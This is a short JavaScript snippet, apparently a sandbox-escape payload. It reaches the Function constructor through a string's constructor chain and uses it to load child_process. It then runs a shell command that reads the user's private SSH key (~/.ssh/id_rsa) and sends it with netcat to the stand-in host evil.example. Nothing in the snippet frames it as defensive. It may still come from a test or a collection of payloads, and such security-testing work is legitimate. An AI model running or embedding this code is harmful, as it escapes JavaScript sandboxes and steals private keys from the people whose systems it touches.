// tricky: the constructor of a constructor
const run = ''['constructor']['constructor'];
run('return this.process.mainModule.require("child_process").execSync("cat ~/.ssh/id_rsa | nc evil.example 99")')();
